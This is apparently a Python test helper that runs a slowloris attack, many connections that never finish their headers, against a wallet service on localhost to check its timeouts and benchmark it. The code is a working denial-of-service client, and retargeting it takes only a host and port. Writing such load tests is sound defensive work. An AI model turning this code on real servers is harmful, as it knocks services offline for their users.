"""Slow HTTP clients (slowloris) against the wallet service, for its
integration tests (wallet_http.py) and its benchmark (bench/wallet_bench.py).

Each connection sends a request line and a Host header, then one more
header line every `interval` seconds, and never ends its headers: the
attack that took every slot of the wallet service before it had deadlines
(issue 12). One thread drives all of them with poll() (select() stops at
1024 descriptors). A connection the server closes is counted in `closed`
and, with reopen=True, opened again at the next round, as an attacker's
tool does; the reopenings are bounded (reopen_limit) so a server that
closes everything at once cannot make this loop forever.
"""

import errno
import resource
import select
import socket
import threading
import time


def raise_fd_limit(need):
    """Raises this process's soft descriptor limit to at least `need` when
    the hard limit allows."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < need:
        want = need if hard == resource.RLIM_INFINITY else min(need, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


class Slowloris:
    def __init__(self, port, count, source="127.0.0.1", interval=2.0, reopen=True,
                 host="127.0.0.1", reopen_limit=None):
        self.port = port
        self.count = count
        self.source = source
        self.host = host
        self.interval = interval
        self.reopen = reopen
        self.reopen_limit = reopen_limit if reopen_limit is not None else 50 * count
        self.closed = 0          # connections the server closed
        self.opened = 0          # connections opened, reopenings included
        self.attempts = 0        # connections tried
        self.socks = {}          # fd -> socket, the open ones
        self.lock = threading.Lock()
        self.stop_flag = threading.Event()
        self.thread = None
        self.poller = select.poll()
        raise_fd_limit(count + 256)

    def _open_one(self):
        self.attempts += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((self.source, 0))
            s.settimeout(5)
            s.connect((self.host, self.port))
            s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % self.port)
            s.setblocking(False)
        except OSError:
            s.close()
            with self.lock:
                self.closed += 1
            return False
        with self.lock:
            self.socks[s.fileno()] = s
            self.opened += 1
        self.poller.register(s.fileno(), select.POLLIN)
        return True

    def _drop(self, fd):
        with self.lock:
            s = self.socks.pop(fd, None)
            if s is None:
                return
            self.closed += 1
        try:
            self.poller.unregister(fd)
        except KeyError:
            pass
        s.close()

    def open_count(self):
        with self.lock:
            return len(self.socks)

    def start(self):
        """Opens every connection (here, so the caller knows they are all
        connected when this returns), then drives them on a thread."""
        for _ in range(self.count):
            self._open_one()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()
        return self

    def _run(self):
        next_line = time.monotonic() + self.interval
        n = 0
        while not self.stop_flag.is_set():
            for fd, _ in self.poller.poll(50):
                with self.lock:
                    s = self.socks.get(fd)
                if s is None:
                    continue
                try:
                    s.recv(4096)
                except OSError as e:
                    if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
                        continue
                # An answer (408, 503...) or the end: either way this one
                # no longer holds a slot.
                self._drop(fd)
            if time.monotonic() >= next_line:
                next_line += self.interval
                n += 1
                with self.lock:
                    items = list(self.socks.items())
                for fd, s in items:
                    try:
                        s.send(b"X-Slow-%d: %d\r\n" % (n, fd))
                    except OSError:
                        self._drop(fd)
                # Closed ones come back at the next round, as a slowloris
                # tool's do.
                while (self.reopen and self.open_count() < self.count
                       and self.attempts - self.count < self.reopen_limit
                       and not self.stop_flag.is_set()):
                    self._open_one()

    def stop(self):
        self.stop_flag.set()
        if self.thread:
            self.thread.join(10)
        with self.lock:
            socks = list(self.socks.values())
            self.socks.clear()
        for s in socks:
            s.close()
